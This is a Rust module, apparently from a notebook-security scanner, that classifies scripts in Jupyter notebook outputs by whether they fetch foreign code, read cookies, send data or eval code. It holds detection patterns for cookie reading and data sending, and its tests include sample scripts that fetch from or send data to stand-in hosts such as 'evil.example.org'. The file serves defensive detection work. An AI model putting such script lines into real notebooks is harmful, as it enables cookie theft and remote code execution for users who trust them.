//! Scripts in the outputs of notebooks, which a browser runs once the notebook is trusted: those of plotting
//! libraries, and those that fetch code, send data or make code.

use serde::Deserialize;

use super::notebook::Source;

/// A script this long is a library that was saved with the output: plotly's is 3 MB, and makes code itself.
const LIBRARY: usize = 100_000;
/// Hosts from which plotting libraries fetch their scripts.
#[rustfmt::skip]
const LIBRARIES: &[&str] = &[
    "ajax.googleapis.com", "cdn.bokeh.org", "cdn.holoviz.org", "cdn.jsdelivr.net", "cdn.mathjax.org", "cdn.plot.ly", "cdn.pydata.org", "cdnjs.cloudflare.com", "code.highcharts.com", "code.jquery.com", "colab.research.google.com", "d3js.org", "fonts.googleapis.com", "gstatic.com", "localhost", "127.0.0.1", "maxcdn.bootstrapcdn.com", "mpld3.github.io", "netdna.bootstrapcdn.com", "raw.githubusercontent.com", "requirejs.org", "stackpath.bootstrapcdn.com", "unpkg.com", "w3.org", "wandb.ai",
];
/// What a script does, by what it says.
#[rustfmt::skip]
const ACTS: &[(&str, &str)] = &[
    ("kernel.execute(", "has the kernel run code"),
    ("document.cookie", "reads cookies"),
    ("navigator.sendBeacon(", "sends data"),
    ("eval(", "makes code and runs it"),
    ("new Function(", "makes code and runs it"),
];
/// By which a script reaches a host.
const REACHES: &[&str] = &[
    "fetch(",
    "XMLHttpRequest",
    "WebSocket(",
    "importScripts(",
    ".src=",
    ".src =",
    "import(",
];

/// An output of a cell.
#[derive(Deserialize)]
#[serde(untagged)]
pub(super) enum Output {
    Shown {
        data: Data,
    },
    /// As the third form of notebooks had them.
    Older {
        #[serde(default)]
        html: Source,
        #[serde(default)]
        javascript: Source,
    },
    Other(serde::de::IgnoredAny),
}

/// What is shown, by its kind.
#[derive(Deserialize)]
pub(super) struct Data {
    #[serde(rename = "text/html", default)]
    html: Source,
    #[serde(rename = "application/javascript", default)]
    javascript: Source,
    #[serde(rename = "image/svg+xml", default)]
    svg: Source,
}

/// What an output has a browser do, the least first.
#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Has {
    Nothing,
    /// Run a script, which draws as far as is known.
    Script,
    /// Run one that does this.
    Acts(String),
}

impl Output {
    /// What a browser would run of it.
    pub(super) fn has(self) -> Has {
        let (pages, script) = match self {
            Self::Shown { data } => ([data.html, data.svg], data.javascript),
            Self::Older { html, javascript } => ([html, Source::default()], javascript),
            Self::Other(_) => return Has::Nothing,
        };
        let script = script.text().unwrap_or_default();
        let pages = pages.map(|page| page.text().unwrap_or_default());
        let mut scripts: Vec<Script> = pages.iter().flat_map(|page| scripts(page)).collect();
        if !script.is_empty() {
            scripts.push(Script { fetched: None, text: &script });
        }
        match scripts.iter().find_map(Script::does) {
            Some(does) => Has::Acts(does),
            None if scripts.is_empty() => Has::Nothing,
            None => Has::Script,
        }
    }
}

/// One script of a page.
struct Script<'a> {
    /// Where it is fetched from.
    fetched: Option<&'a str>,
    text: &'a str,
}

impl Script<'_> {
    fn does(&self) -> Option<String> {
        if let Some(host) = self.fetched.and_then(host).filter(|it| !is_library(it)) {
            return Some(format!("fetches code from {host}"));
        }
        if self.text.len() > LIBRARY {
            return None;
        }
        let act = ACTS.iter().find(|(word, _)| says(self.text, word));
        if let Some((_, does)) = act {
            return Some((*does).to_owned());
        }
        let reaches = REACHES.iter().any(|word| self.text.contains(word));
        let mut hosts = self.text.match_indices("//").filter_map(|(at, _)| host(&self.text[at..]));
        let foreign = hosts.find(|it| !is_library(it)).filter(|_| reaches)?;
        Some(format!("reaches {foreign}"))
    }
}

/// The scripts of a page, in order. Tags are told in any case, in one pass over the page.
fn scripts(page: &str) -> Vec<Script<'_>> {
    let lower = page.to_ascii_lowercase(); // the same length: places in it are places in the page
    let find = |tag: &str, from: usize| lower[from..].find(tag).map(|at| from + at);
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(start) = find("<script", at) {
        let from = start + "<script".len();
        let (tag_end, text_start) = match find(">", from) {
            Some(end) => (end, end + 1),
            None => (page.len(), page.len()),
        };
        let text_end = find("</script", text_start).unwrap_or(page.len());
        let (tag, text) = (&page[from..tag_end], &page[text_start..text_end]);
        let data = tag.contains("application/json") || tag.contains("application/vnd.");
        let fetched =
            tag.split_once("src=").map(|(_, it)| it.trim_start_matches(['"', '\'', '\\']));
        if !data {
            found.push(Script { fetched, text });
        }
        at = text_end;
    }
    found
}

/// The host of an address: `x.org` of `https://x.org/y` and of `//x.org/y`.
fn host(address: &str) -> Option<&str> {
    let (_, rest) = address.split_once("//")?;
    let end = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-'));
    let host = rest.split(end).next()?;
    (host.contains('.') && !host.starts_with('.') && !host.ends_with('.') || host == "localhost")
        .then_some(host)
}

fn is_library(host: &str) -> bool {
    LIBRARIES
        .iter()
        .any(|it| host.strip_suffix(it).is_some_and(|it| it.is_empty() || it.ends_with('.')))
}

/// Whether a word stands in a text that goes on before no letter: `eval(`, and not `retrieval(`.
fn says(text: &str, word: &str) -> bool {
    text.match_indices(word).any(|(at, _)| {
        let before = text[..at].chars().next_back();
        !before.is_some_and(|it| it.is_alphanumeric() || it == '_' || it == '$')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn acts(does: &str) -> Has {
        Has::Acts(does.to_owned())
    }

    #[test]
    fn scripts_are_told_by_what_they_do() {
        for (html, told) in [
            ("<table><tr><td>1</td></tr></table>", Has::Nothing),
            ("<script>draw(1)</script>", Has::Script),
            ("<script type=\"application/json\">{}</script>", Has::Nothing),
            ("<script src=\"https://cdn.plot.ly/plotly-2.27.0.min.js\"></script>", Has::Script),
            (
                "<script>require.config({paths: {'plotly': ['https://cdn.plot.ly/plotly-2.27.0.min']}})</script>",
                Has::Script,
            ),
            (
                "<script src='//evil.example.org/x.js'></script>",
                acts("fetches code from evil.example.org"),
            ),
            (
                "<b>x</b><SCRIPT>fetch('https://a.example.org/?' + x)</SCRIPT>",
                acts("reaches a.example.org"),
            ),
            ("<script>eval(x)</script>", acts("makes code and runs it")),
            ("<SCRIPT>eval(x)</SCRIPT><script>draw(1)</script>", acts("makes code and runs it")),
            ("<ScRiPt>eval(x)</sCrIpT>", acts("makes code and runs it")),
            ("<script>retrieval(x) // see https://a.example.org</script>", Has::Script),
            (
                "<script>Jupyter.notebook.kernel.execute('x')</script>",
                acts("has the kernel run code"),
            ),
            ("<script>fetch('https://a.example.org')", acts("reaches a.example.org")),
        ] {
            let output = serde_json::json!({ "data": { "text/html": [html] } });
            let output: Output = serde_json::from_value(output).unwrap();
            assert_eq!(output.has(), told, "{html}");
        }
    }

    #[test]
    fn libraries_that_were_saved_are_no_more_than_that() {
        let page = format!("<script>{}eval(x)</script>", "plot();".repeat(20_000));
        let output = serde_json::json!({ "data": { "text/html": page } });
        let output: Output = serde_json::from_value(output).unwrap();
        assert_eq!(output.has(), Has::Script);
    }

    #[test]
    fn odd_outputs_are_none() {
        for output in [
            "1",
            "{\"data\": 1}",
            "{\"data\": {\"text/html\": 1}}",
            "{\"text\": []}",
            "null",
        ] {
            let output: Output = serde_json::from_str(output).unwrap();
            assert_eq!(output.has(), Has::Nothing);
        }
    }
}
